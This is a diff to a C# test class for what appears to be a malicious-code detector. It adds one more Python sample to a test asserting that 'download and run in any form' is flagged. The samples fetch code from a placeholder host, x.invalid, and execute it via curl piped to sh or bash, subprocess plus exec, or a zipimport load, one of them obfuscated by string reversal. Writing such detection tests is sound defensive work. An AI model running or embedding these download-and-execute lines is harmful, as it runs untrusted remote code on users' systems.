@@ -32,6 +32,7 @@ public sealed class TechniqueFamilyTests
     [InlineData("import os\nos.system(''.join(reversed('hs | x/dilavni.x//:ptth s- lruc')))\n")]
     [InlineData("import os\nos.system(' '.join(['curl', '-s', 'http://x.invalid/i', '|', 'sh']))\n")]
     [InlineData("import os\nurl = 'http://x.invalid/i'\nos.system('curl -s ' + url + ' | bash')\n")]
+    [InlineData("import subprocess\ncode = subprocess.check_output(['curl', '-s', 'http://x.invalid/p.py'])\nexec(code)\n")]
     [InlineData("import urllib.request, zipimport\nurllib.request.urlretrieve('https://x.invalid/s.zip', '/tmp/s.zip')\nzipimport.zipimporter('/tmp/s.zip').load_module('s')\n")]
     public async Task Download_and_run_in_any_form_is_a_threat(string setup)
     {
